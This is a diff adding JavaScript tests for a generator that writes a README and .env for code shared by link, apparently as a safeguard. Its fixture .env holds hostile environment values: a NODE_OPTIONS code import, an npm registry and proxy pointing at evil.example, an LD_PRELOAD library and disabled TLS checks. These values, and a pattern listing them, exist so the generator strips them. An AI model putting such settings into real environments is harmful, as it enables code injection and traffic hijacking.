@@ -166,3 +166,54 @@ test("installs nothing that no lab has, and says so", () => {
   expect(files["README.md"]).toContain("`@some/pkg`, `constructor`, `left-pad`. Look at each");
   expect(make({ target: "hono" })["README.md"]).not.toContain("no lab has");
 });
+
+describe("a project of code that came with a link", () => {
+  const code = `import { exec } from "node:child_process";
+    import fs from "fs";
+    const { AUTH_SECRET } = process.env;
+    process?.getBuiltinModule?.("node:os");
+    globalThis.process.exit(process.env.AUTH_GITHUB_ID ?? process.env.NODE_OPTIONS);`;
+  const environment = `# A comment
+AUTH_SECRET=fake
+export AUTH_GITHUB_ID='x y' # why
+AUTH_OTHER=1
+NODE_OPTIONS=--import=data:text/javascript,alert(1)
+node_tls_reject_unauthorized=0
+npm_config_registry=https://evil.example
+LD_PRELOAD=/tmp/evil.so
+HTTPS_PROXY=http://evil.example
+PATH=/tmp
+UNUSED=1
+`;
+  const files = { ...read("first-sign-in"), "auth.ts": code, ".env": environment };
+
+  test.each(targets)(
+    "for %s says so before all else, and what it uses of the machine",
+    (target) => {
+      const text = make({ target, files, isShared: true })["README.md"] ?? "";
+      expect(text).toMatch(/^# A title\n\n> \*\*The code in `example\/` came with a link\.\*\*/);
+      expect(text).toContain("runs on your machine with your rights");
+      expect(text.indexOf("came with a link")).toBeLessThan(text.indexOf("npm install"));
+      expect(text).toContain("`fs`, `node:child_process`, `process`. Look there first");
+      expect(make({ target, files })["README.md"]).not.toContain("came with a link");
+    },
+  );
+
+  test("keeps of .env what the code reads, and nothing that changes the machine", () => {
+    const made = make({ target: "hono", files, isShared: true });
+    expect(made[".env"]).toMatch(/^AUTH_SECRET=fake\nAUTH_GITHUB_ID='x y'\n\n# The app answers/);
+    expect(made[".env"]).not.toMatch(/NODE_|node_|npm_|LD_|PROXY|PATH|evil|UNUSED|AUTH_OTHER/);
+    expect(make({ target: "hono", files })[".env"]).toContain("NODE_OPTIONS");
+  });
+
+  test("keeps what the library reads, if the code hands it the environment", () => {
+    const handing = { ...files, "auth.ts": `setEnvDefaults(process.env, config);` };
+    const made = make({ target: "hono", files: handing, isShared: true });
+    expect(made[".env"]).toMatch(/^AUTH_SECRET=fake\nAUTH_GITHUB_ID='x y'\nAUTH_OTHER=1\n\n/);
+  });
+
+  test("does not claim that code without modules of Node is harmless", () => {
+    const made = make({ target: "hono", files: read("first-sign-in"), isShared: true });
+    expect(made["README.md"]).toContain("That does not prove that it is harmless");
+  });
+});
